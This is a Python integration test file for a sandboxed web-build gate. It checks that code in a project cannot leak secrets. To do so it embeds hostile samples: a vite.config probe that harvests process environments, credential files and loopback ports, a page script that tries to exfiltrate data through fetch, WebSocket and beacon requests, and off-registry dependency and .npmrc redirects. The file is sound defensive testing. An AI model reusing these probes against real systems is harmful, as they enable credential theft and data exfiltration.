"""Code that a visitor or a model writes runs in the build gate: a project's vite.config is
hostile. Each route to a secret is tried from inside a real build (npm + Vite in
bubblewrap) and from the render check's page; nothing may come back.

These tests send traffic only to listeners of their own on 127.0.0.1: the metadata and
private addresses are proved unreachable by the build having no network interface but
its own loopback, never by connecting to them."""

from __future__ import annotations

import json
import logging
import socket
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from kiln.config import Settings
from kiln.gate.build import BuildResult, build_project
from kiln.gate.queue import request_build, run_build_job
from kiln.gate.render import render_check
from kiln.generate import save_version
from kiln.models import Framework
from kiln.sandbox import SandboxMode, find_sandbox
from kiln.store import projects
from kiln.store.db import Store
from tests.integration.test_build import vanilla
from tests.tools import CHROMIUM, needs, require

pytestmark = [pytest.mark.integration, needs("npm", "bwrap")]

SECRET = "kiln-secret-4c8d1f0b9e"
LAMBDA_RUNTIME_API_PORT = 9001  # AWS_LAMBDA_RUNTIME_API is 127.0.0.1:9001 on Lambda


@pytest.fixture(scope="module")
def npm_cache(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("npm-cache")


class Listener:
    """A TCP port on 127.0.0.1 that counts who connects: kiln dev's emulator, the
    Lambda runtime API and any other loopback service stand in here."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = int(self.sock.getsockname()[1])
        self.connections = 0
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            conn.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    ear = Listener()
    yield ear
    ear.sock.close()


PROBE = r"""
import fs from 'node:fs';
import os from 'node:os';
import net from 'node:net';
import { execSync } from 'node:child_process';

const found = { ran: true, pids: [], environ: [], files: {}, interfaces: [], connects: {} };
for (const pid of fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
  found.pids.push(pid);
  for (const what of ['environ', 'cmdline']) {
    try { found.environ.push(fs.readFileSync(`/proc/${pid}/${what}`, 'utf8')); } catch {}
  }
}
let ppid = process.ppid;
for (let hops = 0; hops < 10 && ppid > 0; hops++) {
  try {
    found.environ.push(fs.readFileSync(`/proc/${ppid}/environ`, 'utf8'));
    ppid = Number(/PPid:\s+(\d+)/.exec(fs.readFileSync(`/proc/${ppid}/status`, 'utf8'))[1]);
  } catch { break; }
}
try { found.ps = execSync('ps -eo pid,args 2>&1 || true').toString(); }
catch (e) { found.ps = String(e); }
for (const path of __PATHS__) {
  try { found.files[path] = fs.readFileSync(path, 'utf8'); }
  catch (e) { found.files[path] = e.code; }
}
found.interfaces = Object.keys(os.networkInterfaces());
const tryConnect = (port) => new Promise((done) => {
  const s = net.connect({ host: '127.0.0.1', port }, () => { s.destroy(); done('connected'); });
  s.on('error', (e) => done(e.code));
  setTimeout(() => { s.destroy(); done('timeout'); }, 2000);
});
for (const port of __PORTS__) found.connects[port] = await tryConnect(port);
console.log('PROBE-REPORT ' + JSON.stringify(found));
export default { define: { __FOUND__: JSON.stringify(JSON.stringify(found)) } };
"""


def _probe_project(paths: list[str], ports: list[int]) -> dict[str, str]:
    config = PROBE.replace("__PATHS__", json.dumps(paths)).replace("__PORTS__", json.dumps(ports))
    main = "document.querySelector('#app').textContent = __FOUND__;\n"
    return vanilla(main, **{"vite.config.js": config})


def _report(result: BuildResult) -> dict[str, object]:
    line = next(ln for ln in result.log.splitlines() if ln.startswith("PROBE-REPORT "))
    report: dict[str, object] = json.loads(line.removeprefix("PROBE-REPORT "))
    return report


@pytest.fixture
def attack(
    npm_cache: Path,
    tmp_path: Path,
    listener: Listener,
    moto_endpoint: str,
    monkeypatch: pytest.MonkeyPatch,
) -> tuple[BuildResult, dict[str, object], Listener]:
    """The issue's attack: secrets in kiln's environment and in `.kiln/`, a build config
    that looks for them everywhere and bundles what it finds."""
    for name in ("AWS_SECRET_ACCESS_KEY", "KILN_TEST_SECRET", "GITHUB_TOKEN"):
        monkeypatch.setenv(name, SECRET)
    data = tmp_path / ".kiln"
    data.mkdir()
    (data / "journal.jsonl").write_text(f'{{"secret": "{SECRET}"}}\n')
    home_secret = Path.home() / f".kiln-sandbox-probe-{uuid.uuid4().hex}"
    home_secret.write_text(SECRET)
    try:
        paths = [
            str(data / "journal.jsonl"),
            str(home_secret),
            str(Path.cwd() / "pyproject.toml"),
            "/proc/1/environ",
        ]
        emulator = int(moto_endpoint.rsplit(":", 1)[1])  # the AWS emulator kiln dev runs
        files = _probe_project(paths, [listener.port, emulator, LAMBDA_RUNTIME_API_PORT])
        result = build_project(
            files, framework="vanilla", npm_cache=npm_cache, sandbox=find_sandbox("bwrap")
        )
    finally:
        home_secret.unlink()
    return result, _report(result), listener


def _everything(result: BuildResult) -> bytes:
    return result.log.encode() + b"".join(result.dist.values())


def test_the_attack_runs_and_the_bundle_and_log_hold_no_secret(
    attack: tuple[BuildResult, dict[str, object], Listener],
) -> None:
    result, report, _ = attack
    assert result.ok, result.log
    assert report["ran"] is True
    assert b"PROBE-REPORT" in _everything(result) or "PROBE-REPORT" in result.log
    assert SECRET.encode() not in _everything(result)


def test_the_build_sees_no_other_process_and_no_parent_environment(
    attack: tuple[BuildResult, dict[str, object], Listener],
) -> None:
    _, report, _ = attack
    pids = report["pids"]
    assert isinstance(pids, list)
    assert len(pids) <= 6, pids  # the sandbox's init, npm/node, vite and this probe
    environ = "\n".join(report["environ"])  # type: ignore[arg-type]
    assert SECRET not in environ
    assert "AWS_" not in environ
    assert "kiln" not in str(report.get("ps", "")).lower().replace("kiln-build", "")


def test_the_build_cannot_read_kiln_data_the_checkout_or_home(
    attack: tuple[BuildResult, dict[str, object], Listener],
) -> None:
    _, report, _ = attack
    files = report["files"]
    assert isinstance(files, dict)
    readable = {path: value for path, value in files.items() if value not in ("ENOENT", "EACCES")}
    assert set(readable) <= {"/proc/1/environ"}, readable
    assert SECRET not in json.dumps(files)


def test_the_build_has_no_network_to_reach_loopback_metadata_or_private_addresses(
    attack: tuple[BuildResult, dict[str, object], Listener],
) -> None:
    _, report, listener = attack
    assert report["interfaces"] == ["lo"]  # no route to 169.254.169.254, 10/8, or the host
    connects = report["connects"]
    assert isinstance(connects, dict)
    assert set(connects.values()) == {"ECONNREFUSED"}, connects
    assert len(connects) == 3
    assert listener.connections == 0


@pytest.mark.parametrize(
    ("dependency", "where"),
    [
        ("http://127.0.0.1:{port}/evil.tgz", "package.json"),
        ("git+http://127.0.0.1:{port}/evil.git", "package.json"),
        ("file:../../../etc", "package.json"),
        ("github:someone/evil", "package.json"),
    ],
)
def test_dependencies_from_anywhere_but_the_registry_are_refused_before_install(
    npm_cache: Path, listener: Listener, dependency: str, where: str
) -> None:
    files = vanilla("console.log(1);")
    manifest = json.loads(files["package.json"])
    manifest["dependencies"] = {"evil": dependency.format(port=listener.port)}
    files["package.json"] = json.dumps(manifest)
    result = build_project(files, framework="vanilla", npm_cache=npm_cache)
    assert not result.ok
    assert result.errors[0].file == where
    assert "registry" in result.errors[0].message
    assert listener.connections == 0


def test_an_override_or_alias_that_leads_off_the_registry_is_refused_before_install(
    npm_cache: Path, listener: Listener
) -> None:
    files = vanilla("console.log(1);")
    manifest = json.loads(files["package.json"])
    manifest["dependencies"] = {"left-pad": f"npm:evil@http://127.0.0.1:{listener.port}/e.tgz"}
    manifest["overrides"] = {"vite": {"rollup": f"git+http://127.0.0.1:{listener.port}/r.git"}}
    files["package.json"] = json.dumps(manifest)
    result = build_project(files, framework="vanilla", npm_cache=npm_cache)
    assert not result.ok
    messages = [e.message for e in result.errors if e.file == "package.json"]
    assert any(m.startswith("left-pad:") for m in messages), messages
    assert any(m.startswith("overrides.vite.rollup:") for m in messages), messages
    assert listener.connections == 0


def test_a_lockfile_resolved_outside_the_registry_is_refused(
    npm_cache: Path, listener: Listener
) -> None:
    files = vanilla("console.log(1);")
    lock = {
        "lockfileVersion": 3,
        "packages": {
            "": {"name": "app"},
            "node_modules/evil": {
                "version": "1.0.0",
                "resolved": f"http://127.0.0.1:{listener.port}/evil-1.0.0.tgz",
            },
        },
    }
    files["package-lock.json"] = json.dumps(lock)
    result = build_project(files, framework="vanilla", npm_cache=npm_cache)
    assert not result.ok
    assert result.errors[0].file == "package-lock.json"
    assert listener.connections == 0


def test_a_projects_npmrc_cannot_point_the_install_elsewhere(
    npm_cache: Path, listener: Listener
) -> None:
    npmrc = f"registry=http://127.0.0.1:{listener.port}/\nproxy=http://127.0.0.1:{listener.port}/\n"
    result = build_project(
        vanilla("console.log(1);", **{".npmrc": npmrc}), framework="vanilla", npm_cache=npm_cache
    )
    assert result.ok, result.log
    assert "ignored the project's package-manager config" in result.log
    assert listener.connections == 0


ATTACK_PAGE = """<!doctype html><div id="root">page</div><script>
const report = {};
const port = __PORT__;
fetch('http://127.0.0.1:' + port + '/steal').catch(() => 0);
try {
  const ws = new WebSocket('ws://127.0.0.1:' + port + '/');
  ws.onopen = () => { report.ws = 'open'; };
  ws.onerror = () => { report.ws = 'blocked'; };
} catch (e) { report.ws = 'threw'; }
const img = new Image(); img.src = 'http://127.0.0.1:' + port + '/pixel.gif';
navigator.sendBeacon && navigator.sendBeacon('http://127.0.0.1:' + port + '/beacon', 'x');
const frame = document.createElement('iframe'); frame.src = 'http://localhost:' + port + '/';
document.body.appendChild(frame);
const other = document.createElement('iframe'); other.src = 'http://127.0.0.1:' + port + '/';
document.body.appendChild(other);
setTimeout(() => { location.href = 'http://127.0.0.1:' + port + '/away'; }, 1500);
</script>"""


@pytest.mark.parametrize("mode", ["bwrap", "none"])
def test_the_render_checks_page_reaches_nothing_but_the_app(
    listener: Listener, mode: SandboxMode
) -> None:
    """In the sandbox the browser has no network; without it (a machine with no
    bubblewrap) the route filter and the resolver rules alone keep the page in."""
    require("chromium")
    chromium = CHROMIUM
    page = ATTACK_PAGE.replace("__PORT__", str(listener.port)).encode()
    result = render_check(
        {"index.html": page}, chromium=chromium, sandbox=find_sandbox(mode), wait_s=2.5
    )
    assert result.renders
    assert listener.connections == 0


def test_through_the_gate_no_stored_object_item_or_log_holds_the_secret(
    settings: Settings, npm_cache: Path, monkeypatch: pytest.MonkeyPatch, caplog: Any
) -> None:
    """The issue's attack end to end: a hand edit whose vite.config hunts for secrets,
    built by the gate (a green version whose build is what a share link serves)."""
    monkeypatch.setenv("KILN_TEST_SECRET", SECRET)
    caplog.set_level(logging.DEBUG)
    store = Store(settings.model_copy(update={"npm_cache_dir": npm_cache, "render_check": False}))
    project = projects.create_project(store, owner="o", name="t", framework=Framework.vanilla)
    files = _probe_project([str(settings.data_dir), "/proc/1/environ"], [])
    n = save_version(store, project["project_id"], files, parent=None, prompt="t", job_id=None)
    job_id = request_build(store, project["project_id"], n, "o")
    assert job_id is not None
    assert run_build_job(store, job_id) == "succeeded"
    item = projects.get_version_item(store, project["project_id"], n)
    assert item["build"] == "green", item.get("build_errors")

    stored = []
    for page in store.s3.get_paginator("list_object_versions").paginate(Bucket=store.bucket):
        for version in page.get("Versions", []):
            body = store.s3.get_object(
                Bucket=store.bucket, Key=version["Key"], VersionId=version["VersionId"]
            )["Body"].read()
            stored.append(body)
    assert any(b"__FOUND__" not in b and b'"ran":true' in b for b in stored), "probe bundled"
    items = store.ddb.scan(TableName=store.table)["Items"]
    assert SECRET.encode() not in b"".join(stored)
    assert SECRET not in json.dumps(items)
    assert SECRET not in caplog.text
